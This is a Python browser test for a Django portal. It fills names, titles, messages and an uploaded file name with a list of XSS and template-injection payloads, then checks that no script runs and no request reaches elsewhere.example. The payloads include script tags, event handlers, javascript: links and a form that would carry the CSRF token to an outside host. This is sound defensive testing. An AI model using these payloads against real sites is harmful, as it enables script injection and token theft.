"""Words that are programs elsewhere: in names, titles, texts and names of files they are words, on every page."""

import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from playwright.sync_api import Page, expect

from registry.loading.demo_papers import page as pdf

from .conftest import Register

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "</textarea><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "javascript:alert(6)",
    "{{ 7*7 }}{% debug %}",
    "<a href=javascript:alert(8)>",
    "<iframe srcdoc='<script>alert(9)</script>'>",
    "<style>@import'//elsewhere.example'</style>",
    "<base href=//elsewhere.example/>",
    "<form action=//elsewhere.example><input name=csrfmiddlewaretoken>",
    "&lt;script&gt;alert(13)&lt;/script&gt;",
    "<ScRiPt/src=//elsewhere.example/x.js>",
    "<math><mi//xlink:href='data:x,<script>alert(15)</script>'>",
    "` onmouseover=alert(16) x=`",
)
HOSTILE = " ".join(PAYLOADS)
FILE_NAME = "\"><img src=x onerror=alert(1)>'.pdf".replace("/", "")
WRITTEN = """
from registry.models import *
member = User.objects.get(email="association1@demo.example")
party = member.memberships.order_by("pk")[0].party
words = {words!r}
with acting(command_actor("tests"), road="test"):
    for name in ("name_ar", "name_fr", "address", "note"):
        setattr(party, name, words[:280])
    party.save()
    for agreement in party.agreements.all():
        agreement.title_ar = agreement.title_fr = words[:900]
        agreement.save()
        agreement.requests.update(message=words)
        RequestedPiece.objects.filter(request__agreement=agreement).update(text_ar=words, text_fr=words)
    member.full_name = words[:150]
    member.save()
"""


def write(register: Register) -> None:
    """Straight into the tables: by no form, and past whatever a form might refuse."""
    order = [sys.executable, str(Path(settings.BASE_DIR) / "manage.py"), "shell", "-c", WRITTEN.format(words=HOSTILE)]
    how: Any = {"env": register.environment, "cwd": settings.BASE_DIR, "capture_output": True, "text": True}
    done = subprocess.run(order, check=False, **how)
    assert done.returncode == 0, done.stderr


def listen(page: Page, heard: list[str]) -> None:
    """Any dialog, and any question to another house."""
    page.on("dialog", lambda dialog: (heard.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda asked: heard.append(asked.url) if "elsewhere.example" in asked.url else None)


def hand_in(page: Page) -> str:
    """A correction full of programs, with a file that is called like one; returns the address of its receipt."""
    page.goto("/portal/")
    links = [link.get_attribute("href") for link in page.locator("article.agreement h3 a").all()]
    for link in links:
        page.goto(str(link))
        if page.locator(".doings a[href*='/correction/']").count():
            break
    page.locator(".doings a[href*='/correction/']").click()
    page.fill("[name=what]", HOSTILE)
    page.fill("[name=should_be]", HOSTILE)
    page.set_input_files("[name=papers]", {"name": FILE_NAME, "mimeType": "application/pdf", "buffer": pdf("hostile")})
    expect(page.locator(".files")).to_contain_text("onerror")
    page.locator("button[value=hand_in]").click()
    page.wait_for_url("**/portal/deposits/*/")
    expect(page.locator("main")).to_contain_text("alert(16)")
    return page.url


@pytest.mark.parametrize("language", ["ar", "fr"])
def test_programs_in_words_and_names_of_files_never_run(
    language: str, visit: Callable[..., Page], register: Register
) -> None:
    write(register)
    heard: list[str] = []
    member, clerk = visit("association", language, width=390, height=844), visit("clerk", language)
    for page in (member, clerk):
        listen(page, heard)
    receipt = hand_in(member)
    links = [link.get_attribute("href") for link in member.locator(".bar a, main a").all()]
    for link in [*links, receipt, "/portal/notices/"]:
        if link and ".pdf" not in link and "documents" not in link and ".ics" not in link:
            member.goto(link)
            member.wait_for_load_state("networkidle")
    clerk.goto("/admin/registry/deposit/")
    clerk.locator("#result_list tbody th a").first.click()
    expect(clerk.locator("#content-main")).to_contain_text("alert(16)")
    clerk.locator("a[href$='/return/']").click()
    clerk.fill("[name=reason]", HOSTILE)
    clerk.locator("#content-main input[type=submit]").click()
    expect(clerk.locator(".messagelist .success")).to_be_visible()
    member.goto(receipt)
    expect(member.locator("main")).to_contain_text("alert(16)")
    assert heard == []
